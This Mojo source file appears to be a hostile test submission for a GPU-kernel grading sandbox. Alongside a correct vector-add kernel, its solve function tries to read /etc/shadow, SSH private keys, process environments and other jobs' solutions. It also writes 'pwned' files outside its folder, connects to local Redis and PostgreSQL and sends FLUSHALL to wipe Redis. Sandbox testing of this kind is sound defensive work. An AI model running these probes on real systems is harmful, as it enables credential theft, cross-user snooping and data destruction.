# Tries to reach the host from inside solve: secrets and other jobs' files, files written
# outside the job folder, Redis and PostgreSQL on the host's loopback, DNS; prints whatever
# it gets (the result must not carry it), then adds the vectors correctly.
from std.ffi import external_call
from std.os import abort, listdir
from max.gpu import global_idx
from max.gpu.host import DeviceContext

comptime BLOCK = 256


def add_kernel(
    A: Pointer[Float32, MutAnyOrigin],
    B: Pointer[Float32, MutAnyOrigin],
    C: Pointer[Float32, MutAnyOrigin],
    N: Int32,
):
    var i = Int32(global_idx.x)
    if i < N:
        C[unsafe_offset=i] = A[unsafe_offset=i] + B[unsafe_offset=i]


def try_read(path: String):
    try:
        with open(path, "r") as f:
            print("read", path, f.read())
    except e:
        print("no read", path, e)


def try_write(path: String):
    try:
        with open(path, "w") as f:
            f.write("pwned by a Mojo solution")
        print("wrote", path)
    except e:
        print("no write", path, e)


def try_list(path: String):
    try:
        var names = listdir(path)
        print("listed", path, len(names))
        for name in names:
            if name.startswith("kj-job-"):
                try_list(path + "/" + name)
                try_read(path + "/" + name + "/build/solution.mojo")
    except e:
        print("no list", path, e)


def try_connect(port: Int):
    """A TCP connection to 127.0.0.1:port; on success, a command that would wipe Redis."""
    var fd = external_call["socket", Int32](Int32(2), Int32(1), Int32(0))
    if fd < 0:
        print("no socket")
        return
    # struct sockaddr_in: family 2 (AF_INET), the port and 127.0.0.1 in network byte order
    var where = external_call["malloc", Int](16)
    var addr = Pointer[UInt64, MutAnyOrigin](unsafe_from_address=where)
    var port_be = UInt64((port >> 8) | ((port & 0xFF) << 8))
    addr[unsafe_offset=0] = 2 | (port_be << 16) | (UInt64(127) << 32) | (UInt64(1) << 56)
    addr[unsafe_offset=1] = 0
    var rc = external_call["connect", Int32](fd, addr, Int32(16))
    external_call["free", NoneType](where)
    print("connect", port, rc)
    if rc == 0:
        var command = String("*1\r\n$8\r\nFLUSHALL\r\n")
        _ = external_call["write", Int](fd, command.unsafe_ptr(), command.byte_length())
    _ = external_call["close", Int32](fd)


def try_dns(name: String):
    var host = name
    var entry = external_call["gethostbyname", Int](host.as_c_string_span().ptr())
    print("dns", name, entry)


def attempt_escape():
    for path in ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/proc/1/environ"]:
        try_read(path)
    try_list("/tmp")
    try_list("/root")
    for path in ["/tmp/kj-pwned", "/root/kj-pwned", "/var/tmp/kj-pwned", "/etc/kj-pwned"]:
        try_write(path)
    try_connect(6379)
    try_connect(5432)
    try_dns("example.com")


@export
def solve(
    A: Pointer[Float32, MutAnyOrigin],
    B: Pointer[Float32, MutAnyOrigin],
    C: Pointer[Float32, MutAnyOrigin],
    N: Int32,
) abi("C"):
    attempt_escape()
    try:
        var ctx = DeviceContext()
        ctx.enqueue_function[add_kernel](
            A, B, C, N, grid_dim=(Int(N) + BLOCK - 1) // BLOCK, block_dim=BLOCK
        )
        ctx.synchronize()
    except e:
        abort(String(e))
